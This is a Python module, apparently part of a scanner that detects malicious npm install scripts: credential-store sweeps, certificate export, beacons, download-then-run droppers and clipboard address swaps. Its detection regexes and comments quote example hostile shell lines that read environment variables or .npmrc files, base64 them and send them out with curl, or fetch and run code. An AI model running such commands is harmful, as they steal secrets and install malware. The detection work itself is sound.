READS_FILES = linear_re.compile(r"\b(cat|type|Get-Content|gc|ReadAll(Bytes|Text)|base64|tar|zip|Compress-Archive)\b", ignore_case=True)


KEY_EXPORT = linear_re.compile(r"\bExport-PfxCertificate\b|\bcertutil(?:\.exe)?\s+[^\n|&;]*-exportPFX\b|"
                              r"\bsecurity\s+export\b[^\n|&;]*-t\s+identities\b", ignore_case=True)
"""The certificate store's identities exported with their private keys: Windows' `Export-PfxCertificate`, `certutil
-exportPFX`, macOS's `security export -t identities` (T1649: a code-signing or client certificate, stolen)."""


def credential_sweep(hook: str, path: str, text: str) -> Iterator[Finding]:
    """A script that names three credential stores or more (`$u\\.aws\\credentials`, `.docker/config.json`,
    `.npmrc` in a list), reads files and sends data out: the stealer's loop over a list, which the line-by-line
    tracking of variables does not follow. An installer that checks for one tool's config names one; the user's
    document folders are not credential stores. So is a script that exports the certificate store's identities with
    their private keys and sends data out (blind set 55's certificate lister zipped its PFX exports and posted them)."""
    stores = {m.group(0).lower().strip("/\\") for m in P.SECRET_PATHS.finditer(text) if not P.DOCUMENT_PATH.search(m.group(0))}
    exported = KEY_EXPORT.search(text)
    if (len(stores) < P.SWEEP_STORES or READS_FILES.search(text) is None) and exported is None:
        return
    sending = next(((n, line) for n, line in enumerate(text.splitlines(), 1) if SENDS.search(line)), None)
    if sending is not None:
        number, line = sending
        what = f"names {len(stores)} credential stores ({', '.join(sorted(stores)[:4])}), reads files" \
            if len(stores) >= P.SWEEP_STORES else f"exports certificates with their private keys ({exported.group(0)})"
        yield Finding("install-script/sends-secrets", Severity.CRITICAL, Confidence.HIGH, "exfiltration",
                      f"{path} (run by the `{hook}` script) {what} and sends data to the network (line {number}).",
                      path, number, _snippet(line), {"hook": hook, "stores": sorted(stores), "what": what})


def _scripts_run(path: str, text: str, files) -> list[str]:
    """The package's shell scripts a script runs, with batch's `%~dp0` (the script's own directory) resolved."""
    folder = path.rsplit("/", 1)[0] + "/" if "/" in path else ""
    ran = []
    for _, command in _logical_lines(text, joins=not path.endswith((".bat", ".cmd", ".ps1"))):
        for name in files_run_by(command.replace("%~dp0", folder)):
            if name in files and name.endswith(SHELL_SCRIPTS) and name not in ran:
                ran.append(name)
    return ran


def _judge_shell_lines(hook: str, path: str, files, text: str, label: str = "") -> Iterator[Finding]:
    """Each command line of a shell/batch script, judged like a hook, and what spans lines (a download then run, loot
    read into a variable then sent)."""
    yield from _clipboard_swap(hook, path, text)
    saved: dict[str, int] = {}
    recon: dict[str, int] = {}
    """Shell variables set from $(hostname), $(whoami), ... and the line that set them."""
    loot: dict[str, int] = {}
    """Variables set from the environment or a credential file (`E="$(env | base64)"`)."""
    beaconed = sent = False
    fetched_at: int | None = None
    """The first line that downloads (a URL, another package's tarball)."""
    unassigned: int | None = None
    """The last line that read loot without keeping it in a variable (inside a block or a loop)."""
    loot_files: dict[str, int] = {}
    """Files (by the path the script names) written with the environment, a credential file or another loot file."""
    constants: dict[str, str] = {}
    """Variables set to a constant (`H=/etc/hosts`), expanded where they are used (`>> "$H"`)."""
    fetched_code: list[tuple[int, str]] = []
    """Lines that clone a repository or tap a Homebrew repository (see `download_then_run`)."""
    for number, command in _logical_lines(text, joins=not path.endswith((".bat", ".cmd", ".ps1"))):
        command = QUOTED_JOIN.sub("", command)
        if constants:
            command = SHELL_USE.sub(lambda m: constants.get(m.group("name") or m.group("braced") or m.group("batch"), m.group(0)), command)
        constant = SHELL_CONSTANT.match(command)
        printed = SHELL_PRINTF.match(command)
        if constant:
            constants[constant.group(1)] = constant.group(2)
        elif printed:
            constants[printed.group(1)] = _printf(printed.group(2))
            command = f"{printed.group(1)}={constants[printed.group(1)]}"
        dropped = False  # (the line downloads and runs a file by itself: judged whole above, as one command line)
        for finding in _judge(_Script(hook, command, number, file=path, label=label), files):
            if finding.rule not in NO_WEIGHT:
                beaconed |= finding.rule == "install-script/beacon"
                sent |= finding.rule == "install-script/sends-secrets"
                dropped |= finding.rule == "install-script/download-execute"
                yield finding
        assigned = SHELL_ASSIGN.match(command)
        _collect_identity(recon, assigned, command, number)
        loot_file = next((name for name in loot_files if name in command), None)
        reads_loot = LOOT.search(command) is not None or loot_file is not None
        if assigned and (reads_loot or _first_used(loot, command)):
            loot[assigned.group(1)] = number  # (`d=$(printf %s "$k" | base64)` with `$k` loot: loot too)
        elif reads_loot:
            unassigned = number
        written = REDIRECT_TO_VARIABLE.search(command)
        if written and (reads_loot or (BLOCK_END.match(command) and unassigned is not None)):
            # `{ …; base64 < "$HOME/.npmrc"; …; } > "$M"`, then `curl --upload-file "$M" smtps://…`: the file
            # the block wrote holds what it read.
            loot[written.group(1)] = number if reads_loot else unassigned
            unassigned = None
        elif reads_loot and (to_path := REDIRECT_TO_PATH.search(command)):
            # `set > "%TEMP%\e.txt"`, `>> "%F%" echo put "%USERPROFILE%\.npmrc"`: a file that now holds the loot
            # (or a script of commands that upload it), which a later command sends.
            loot_files.setdefault(to_path.group(1) or to_path.group(2), number)
        stolen = _first_used(loot, command)
        if loot_file is not None and not sent and SENDS.search(command):
            sent = True
            yield Finding("install-script/sends-secrets", Severity.CRITICAL, Confidence.HIGH, "exfiltration",
                          f"{path} (run by the `{hook}` script) sends the environment or a credential file (written to "
                          f"{loot_file}, line {loot_files[loot_file]}) to the network.",
                          path, number, _snippet(command), {"hook": hook, "read_at": loot_files[loot_file]})
        # (`{ …; cat ~/.docker/config.json; env | grep -i token; } | gzip | curl --data-binary @- …`: the block's output)
        read_at = loot[stolen] if stolen else unassigned if BLOCK_END.match(command) else None
        if read_at is not None and not sent and SENDS.search(command):
            # `E="$( (env; cat ~/.npmrc) | base64)"`, then `curl --data "…$E…" "$W"`.
            sent = True
            where = f"read into ${stolen}" if stolen else "read in the block that ends here"
            yield Finding("install-script/sends-secrets", Severity.CRITICAL, Confidence.HIGH, "exfiltration",
                          f"{path} (run by the `{hook}` script) sends the environment or a credential file ({where}, "
                          f"line {read_at}) to the network.",
                          path, number, _snippet(command), {"hook": hook, "read_at": read_at})
        used = _first_used(recon, command)
        if used and not beaconed and (FETCH.search(command) or NETWORK_TOOL.search(command)):
            # `D="host=$(hostname)&user=$(whoami)"` then `wget --post-data "$D" …`: the beacon over two lines.
            beaconed = True
            yield Finding("install-script/beacon", Severity.CRITICAL, Confidence.HIGH, "recon",
                          f"{path} (run by the `{hook}` script) sends the user or host name (collected in ${used}, "
                          f"line {recon[used]}) to the network: an install-time beacon.",
                          path, number, _snippet(command), {"hook": hook, "collected_at": recon[used]})
        if dropped:
            continue
        yield from _run_after_fetch(hook, path, number, command, fetched_code)
        staged = list(_background_stage(hook, path, number, command, files, fetched_at))
        yield from staged
        fetched_at = _first_fetch(command, number, fetched_at, bool(staged))
        if FETCH.search(command):
            for name in saved_as(command):
                saved.setdefault(name, number)
        for part in COMMAND_SEPARATORS.split(command):
            name = _ran_name(part)
            if name in saved:
                yield Finding("install-script/download-execute", Severity.CRITICAL, Confidence.HIGH, "dropper",
                              f"{path} downloads {name} (line {saved[name]}) and then runs it, at install time.",
                              path, number, _snippet(command), {"hook": hook, "downloaded_at": saved[name]})
                saved.pop(name)


def _run_after_fetch(hook: str, path: str, number: int, command: str, fetched_code: list[tuple[int, str]]) -> Iterator[Finding]:
    """`git clone URL "$d"` or `brew tap x/y URL` on an earlier line (kept in `fetched_code`), what it fetched run on
    this one (`sh "$d/install.sh"`, `brew install x/y/z`)."""
    for at, earlier in fetched_code:
        if (ran := download_then_run(f"{earlier} && {command}")) is not None:
            fetched_code.clear()
            yield Finding("install-script/download-execute", Severity.CRITICAL, Confidence.HIGH, "dropper",
                          f"{path} downloads {ran} (line {at}) and then runs it, at install time.",
                          path, number, _snippet(command), {"hook": hook, "downloaded_at": at})
            return
    if ("clone" in command or "tap" in command) and any(GIT_CLONE.match(part) or BREW_TAP.match(part)
                                                         for part in COMMAND_SEPARATORS.split(command)):
        fetched_code.append((number, command))


def _first_fetch(command: str, number: int, fetched_at: int | None, staged: bool) -> int | None:
    """The first line that downloads (a URL, or another package's tarball) since a stage was last started: `fetched_at`,
    or `number` if this one does."""
    if fetched_at is not None and not staged:
        return fetched_at
    return number if FETCH.search(command) or PACKAGE_FETCH.search(command) else None


def _background_stage(hook: str, path: str, number: int, command: str, files, fetched_at: int | None) -> Iterator[Finding]:
    """`npm pack @x/y --registry …`, `tar -xzOf … > .c.js`, then `nohup node .c.js &`: after a download (line
    `fetched_at`), a file the package does not ship left running: it came from the download."""
    started = _started_unshipped(path, command, files) if fetched_at is not None else None
    if started is not None:
        yield Finding("install-script/download-execute", Severity.CRITICAL, Confidence.HIGH, "dropper",
                      f"{path} downloads (line {fetched_at}) and then starts in the background {started}, a file the "
                      "package does not ship, at install time.", path, number, _snippet(command),
                      {"hook": hook, "downloaded_at": fetched_at})


def _started_unshipped(path: str, command: str, files) -> str | None:
    """A script file that the command starts in the background (`nohup`, `setsid`, a trailing `&`) and that the
    package does not ship (by its path from the package's root or from the script's directory)."""
    if BACKGROUND.search(command) is None:
        return None
    for ran in files_run_by(command):
        name = ran.removeprefix("./")
        if name not in files and posixpath.normpath(posixpath.join(posixpath.dirname(path), name)) not in files:
            return ran
    return None


def judge_interpreted_file(hook: str, path: str, files) -> Iterator[Finding]:
    """A Python, Perl or Ruby script a hook runs: a raw IP address it contacts, and code it downloads and hands to an
    interpreter (the `curl … | sh` of a hook, written in the script's own language)."""
    text = files[path][:200_000].decode("utf-8", "replace")
    lines = text.splitlines()
    where = f"{path} (run by the `{hook}` script)"
    for number, line in enumerate(lines, 1):
        if not line.lstrip().startswith("#") and (match := P.RAW_IP_URL.search(line)):
            # (a public address: not loopback or a LAN's)
            yield Finding("install-script/raw-ip", Severity.HIGH, Confidence.MEDIUM, "exfiltration",
                          f"{where} contacts a raw IP address ({match.group(0)}).", path, number, _snippet(line), {"hook": hook})
            break
    fetched, ran = _fetches_and_runs(lines)
    if fetched and ran:
        yield Finding("install-script/fetch-and-execute", Severity.CRITICAL, Confidence.HIGH, "dropper",
                      f"{where} downloads code (line {fetched}) and hands it to an interpreter (line {ran}), at install time.",
                      path, ran, _snippet(lines[ran - 1]), {"hook": hook, "downloaded_at": fetched})


def _inline_code(command: str, with_decoded: str, where: str, finding) -> tuple[list[Finding], bool]:
    """The findings of a command's inline code (`node -e`, `python -c`), and whether it does something dangerous: uses
    the network, processes, the whole environment or eval, or downloads code and hands it to an interpreter (in the
    code it decodes from base64 too: `with_decoded`, see `_with_decoded`). `finding` makes a hook finding (see
    `_judge`)."""
    # (a named variable, `process.env.CI`, is a setting the code checks; the whole environment is loot)
    dangerous = re.search(r"child_process|require\(['\"](https?|net|dns|dgram|tls)['\"]|process\.env(?!\.\w)|fetch\(|eval\(|Function\(", command)
    found = [finding("inline-code", Severity.HIGH if dangerous else Severity.MEDIUM,
                     Confidence.HIGH if dangerous else Confidence.MEDIUM, "install-script",
                     f"The {where} runs inline code instead of a file in the package"
                     + (", and that code uses the network, processes or the environment." if dangerous else "."))]
    fetched, ran = _fetches_and_runs(with_decoded.splitlines())
    if fetched and ran:
        own = len(command.splitlines()) or 1
        hidden = fetched > own or ran > own  # (a line past the command's own: in the code it decodes)
        found.append(finding("fetch-and-execute", Severity.CRITICAL, Confidence.HIGH, "dropper",
                             f"The {where} runs inline code that downloads code and hands it to an interpreter"
                             + (" (in the base64 it decodes)." if hidden else "."), hidden=hidden))
    return found, dangerous is not None or bool(fetched and ran)


def _fetches_and_runs(lines: list[str]) -> tuple[int | None, int | None]:
    """The first line of a Python, Perl or Ruby script that downloads (not an import), and the first that hands code
    to an interpreter (exec/eval, a shell fed on its stdin), numbered from 1."""
    piped_shell = any(SCRIPT_SHELL.search(line) for line in lines)
    fetched = ran = None
    for number, line in enumerate(lines, 1):
        code = line.lstrip()
        if code.startswith("#"):
            continue
        imports = code.startswith(("import ", "from ", "use ", "require "))
        fetched = fetched or (number if SCRIPT_FETCH.search(line) and not imports else None)
        ran = ran or (number if SCRIPT_EVAL.search(line) or (piped_shell and SCRIPT_STDIN.search(line)) else None)
    return fetched, ran


def _with_decoded(command: str) -> str:
    """Inline code with the code it decodes from base64 literals appended, line by line."""
    decoded = (decode_b64(match.group(1)) for match in PYTHON_BASE64.finditer(command[:200_000]))
    return "\n".join([command, *(text for text in decoded if text is not None)])


def _file_name(path: str) -> str:
    """The last part of a path, Windows' or POSIX's (`bin\\x.exe`, `/tmp/x`): what a later command runs it by."""
    return path.replace("\\", "/").split("/")[-1]


def saved_as(command: str) -> Iterator[str]:
    """The file names a download command saves to with an option (`-o x`, `-OutFile x`, certutil's last word)."""
    for match in SAVED_AS.finditer(command):
        yield _file_name(match.group("file") or match.group("file2") or match.group("file3"))


def _unwrapped(part: str) -> str:
    """A command part without the wrappers that start it (`nohup`, `setsid`, `exec`, `sh -c '…`)."""
    part = part.strip()
    while (wrapper := SHELL_WRAPPER.match(part)) and wrapper.end():
        part = part[wrapper.end():]
    return part


WINDOWS_PROGRAM = re.compile(r"""^['"]?((?:[A-Za-z]:|%\w+%)?[\w.\\ -]*?[\w.-]+\.(?:exe|bat|cmd|com))['"]?(?:\s|$)""", re.I)
"""A Windows program started by its name or path (`msupd.exe -k x`, `C:\\Users\\Public\\msupd.exe`): cmd runs it so."""


def _ran_name(part: str) -> str | None:
    """The file a command part runs (`./x`, `sh x`, `nohup x`, `start x`, a Windows program by its path), through
    wrappers."""
    part = _unwrapped(part)
    run = EXECUTES.match(part)
    if run is None and (program := WINDOWS_PROGRAM.match(part)) is not None:
        return _file_name(program.group(1))
    return _file_name(run.group("file")) if run else None


HOLE = "${*}"
"""A part of a command line the code builds at run time (see analyzers.code.consts.HOLE)."""
HOLE_IN_SAVED = "$"
"""What `saved_as` keeps of a hole (`-o ${*}`)."""
CHMOD_HOLE = re.compile(r"^\s*chmod\s+(\+x|[0-7]?[0-7][157][0-7]?[0-7]?)\s+\$\{\*\}")


COMMAND_SEPARATORS = re.compile(r"\s*(?:&&|\|\||;|(?<![;\n]\s)(?<![;\n])(?:&(?!\w)|(?<![\w=%.)}-])&))\s*")
"""`&&`, `||`, `;` and `&`, but not the `&` between a URL's query parameters (`?h=$H&u=$U`), nor PowerShell's call
operator where a statement starts (`…; & "$d\\install.ps1"`)."""


GIT_CLONE = re.compile(r"""^\s*git\s+clone\s+(?:-[\w-]+(?:[ =][\w.=-]+)?\s+)*(?:\S*://|git@)\S+\s+(?P<q>["']?)(?P<dir>[^\s"';&|]+)(?P=q)""")
"""`git clone -q --depth 1 https://host/x.git "${TMPDIR:-/tmp}/.x"`: a download into a directory."""


BREW_TAP = re.compile(r"""^\s*brew\s+tap\s+(?:--[\w-]+\s+)*(?P<tap>[\w.-]+/[\w.-]+)\s+["']?(?:\S*://|git@)""")
"""`brew tap user/tools https://host/homebrew-tools.git`: a tap from a git host the script names, not GitHub's
`homebrew-<name>` repository that `brew tap user/tools` alone clones."""


def _runs_from(part: str, directory: str) -> str | None:
    """The file of `directory` a command part runs (`sh "$d/install.sh"`, `node $d/x.js`, `$d/run`), through wrappers."""
    ran = re.match(r"""(?:(?:ba|z|da)?sh\s+|node\s+|python3?\s+|source\s+|\.\s+)?["']?""" + re.escape(directory) + r"/([\w./-]+)",
                   _unwrapped(part))
    return ran.group(1) if ran else None


def download_then_run(command: str) -> str | None:
    """A file that one command line downloads and then runs: `(curl -fsSL URL || wget -qO- URL) > .x && sh .x`; or
    a script of a repository it clones (`git clone URL "$d" && sh "$d/install.sh"`)."""
    if not FETCH.search(command) and "clone" not in command and "tap" not in command:
        return None
    saved: set[str] = set()
    cloned: set[str] = set()
    tapped: set[str] = set()
    executable_hole = False
    for part in COMMAND_SEPARATORS.split(command):
        if (clone := GIT_CLONE.match(part)) is not None:
            cloned.add(clone.group("dir"))
        elif (tap := BREW_TAP.match(part)) is not None:
            tapped.add(tap.group("tap"))
        elif tapped and (formula := re.match(r"\s*brew\s+(?:re)?install\s+(?:-[\w-]+\s+)*([\w.-]+/[\w.-]+)/([\w.@-]+)",
                                             part)) is not None and formula.group(1) in tapped:
            return f"a Homebrew formula ({formula.group(2)}) from a tap on a git host it names"
        elif cloned and (ran := next(filter(None, (_runs_from(part, d) for d in cloned)), None)) is not None:
            return f"a git repository ({ran} in it)"
        elif FETCH.search(part):
            saved.update(saved_as(part))
            if (redirect := DOWNLOAD_REDIRECT.search(part)) is not None:
                saved.add(_file_name(redirect.group(1)))  # (`curl -fsSL URL > .x`)
        elif saved and not part.lstrip().startswith("chmod") and (name := _ran_name(part)) in saved:
            # (making the file executable is not running it: binary installers do that much)
            return "a file whose path is built at run time" if name == HOLE_IN_SAVED else name
        elif HOLE_IN_SAVED in saved and CHMOD_HOLE.match(part):
            executable_hole = True
        elif executable_hole and _unwrapped(part).startswith(HOLE):
            # A command line built at run time, `-o ${bin} && chmod +x ${bin} && ${bin} -c …`: the path is a hole
            # each time, downloaded to, made executable and run.
            return "a file whose path is built at run time"
    return None


def _collect_identity(recon: dict[str, int], assigned: re.Match | None, command: str, number: int) -> None:
    """Note in `recon` a variable the line sets to the user or host name (see `_judge_shell_lines`)."""
    if assigned and WHO.search(command):
        recon[assigned.group(1)] = number
    elif (looped := SHELL_FOR.match(command)) and (given := _first_used(recon, looped.group(2))):
        # `for q in "$r.2.$h.$u.$d"; do host -t txt "$q"; done`: the loop variable holds what the list held.
        recon[looped.group(1)] = recon[given]


def _first_used(variables: dict[str, int], command: str) -> str | None:
    """The first of the shell variables that the command expands (`$E`, `${E}`)."""
    return next((name for name in variables if re.search(rf"\$\{{?{name}\b", command)), None)


def _logical_lines(text: str, joins: bool) -> Iterator[tuple[int, str]]:
    """(first line number, command) of a script, comments and blank lines left out; in a shell script
    (`joins`), a line ending in a backslash joined to the next, as the shell reads it (in batch it ends a path)."""
    pending, start = "", 0
    for number, line in enumerate(text.splitlines(), 1):
        stripped = line.strip()
        if not pending and (not stripped or stripped.startswith(("#", "::", "REM ", "rem ", "@echo"))):
            continue
        if not pending:
            start = number
        if joins and stripped.endswith("\\") and len(pending) < 20_000:
            pending += stripped[:-1] + " "
            continue
        yield start, pending + stripped
        pending = ""
    if pending:
        yield start, pending


def _clipboard_swap(hook: str, path: str, text: str) -> Iterator[Finding]:
    """A script that reads the clipboard (pbpaste, xclip -o, Get-Clipboard), matches crypto addresses
    and writes the clipboard: the address swap, in shell."""
    from .code import patterns as P

    if not (P.CRYPTO_ADDRESS_REGEX.search(text) and P.CLIPBOARD_READ.search(text)):
        return
    for number, line in enumerate(text.splitlines(), 1):
        if P.writes_clipboard(line) and not line.lstrip().startswith("#"):
            yield Finding("install-script/clipboard-hijack", Severity.CRITICAL, Confidence.HIGH, "browser",
                          f"{path} (run by the `{hook}` script) watches the clipboard, matches crypto addresses and "
                          "writes the clipboard: addresses swapped as they are pasted.", path, number,
                          _snippet(line.strip()), {"hook": hook})
            return


def _printf(format: str) -> str:
    return re.sub(r"\\([0-7]{1,3})|\\x([0-9a-fA-F]{1,2})",
                  lambda m: chr(int(m[1], 8) if m[1] else int(m[2], 16)), format)


def _recognise(command: str) -> str | None:
    """Name the legitimate tool(s) a script runs, or None unless every part is recognised."""
    parts = [p.strip() for p in re.split(r"\s*(?:&&|\|\||;)\s*", command) if p.strip()]
    names = []
    for part in parts:
        for pattern, name in KNOWN_BENIGN:
            if pattern.match(part):
                names.append(name)
                break
        else:
            return None
    return ", ".join(dict.fromkeys(names))


def _snippet(text: str, limit: int = 200) -> str:
    flat = " ".join(text.split())
    return flat if len(flat) <= limit else flat[: limit - 1] + "…"


def files_run_by(command: str) -> list[str]:
    """Package-relative paths of the script files a command runs (`start /B node x.js & node x.js`,
    `cmd /c setup.bat`, `bash ./install.sh`), in order, without repeats."""
    found = []
    for part in SEPARATORS.split(command):
        part = part.strip()
        while (launcher := LAUNCHER.match(part)) is not None:
            part = part[launcher.end():]
        match = RUNS_FILE.match(part)
        if match:
            path = re.sub(r"/+", "/", match.group("file").replace("\\", "/"))  # (`scripts\\x.js` in a JSON string)
            while path.startswith("./"):
                path = path[2:]
            if path not in found:
                found.append(path)
    return found


MAKE_RUN = re.compile(r"(?:^|&&|\|\||;|\()\s*(?:nohup\s+)?g?make\b(?P<args>[^;&|()]*)")
MAKE_VARIABLE = re.compile(r"^(?:export\s+|override\s+)?([A-Za-z_][\w.-]*)\s*(?:\?|::?|\+|!)?=\s*(.*)$")
MAKE_REFERENCE = re.compile(r"\$[({]([A-Za-z_][\w.-]*)[)}]")
DEFAULT_MAKEFILES = ("GNUmakefile", "makefile", "Makefile")


def makefiles_run_by(command: str, files: Mapping[str, bytes]) -> list[str]:
    """The package's makefiles a command runs (`make -s -f scripts/build.mk setup`, `make -C native`, a plain `make`
    reading the Makefile of the package's root)."""
    found = []
    for match in MAKE_RUN.finditer(command):
        words = match.group("args").split()
        folder, named = "", None
        for i, word in enumerate(words):
            following = words[i + 1] if i + 1 < len(words) else ""
            if word in ("-f", "--file", "--makefile"):
                named = following
            elif word.startswith(("--file=", "--makefile=")):
                named = word.split("=", 1)[1]
            elif word.startswith("-f") and len(word) > 2 and not word.startswith("--"):
                named = word[2:]
            elif word == "-C":
                folder = following.strip("'\"").rstrip("/") + "/"
        candidates = [named.strip("'\"")] if named else list(DEFAULT_MAKEFILES)
        for name in candidates:
            path = posixpath.normpath(folder + name)
            if path in files and path not in found:
                found.append(path)
                break
    return found


def make_recipes(text: str) -> str:
    """A makefile as the shell lines make runs: each recipe line with make's prefixes (`@`, `-`, `+`) dropped, `$$`
    made `$` and the makefile's plain variables put in (`$(MIRROR)`; one set by `$(shell …)` left to the shell as
    `$NAME`). Other lines are left blank, so line numbers stay the makefile's."""
    lines = text.splitlines()
    variables: dict[str, str] = {}
    for line in lines:
        if not line.startswith("\t") and (assign := MAKE_VARIABLE.match(line.strip())) is not None:
            variables.setdefault(assign.group(1), assign.group(2).strip())

    def expand(match: re.Match) -> str:
        value = variables.get(match.group(1))
        return value if value is not None and "$" not in value else "$" + match.group(1)

    out, continued = [], False
    for line in lines:
        if line.startswith("\t") or continued:
            command = line.lstrip("\t") if continued else line[1:].lstrip(" @+-")
            command = MAKE_REFERENCE.sub(expand, command.replace("$$", "\0")).replace("\0", "$")
            out.append(command)
            continued = line.endswith("\\")
        else:
            out.append("")
    return "\n".join(out)


def lifecycle_entry_files(manifest, files: Iterable[str]) -> set[str]:
    """Package files that npm runs at install time (`node x.js` in an install hook)."""
    present = set(files)
    return {path for script in _lifecycle_scripts(manifest, {}) for path in files_run_by(script.command) if path in present}


__all__ = ["analyze", "out_of_sight", "gyp_commands", "npmrc_commands", "lifecycle_entry_files", "judge_command", "judge_shell_file", "catalogue",
           "HOOK_RULES", "INSTALL_HOOKS", "SHELL_SCRIPTS", "encoded_script"]
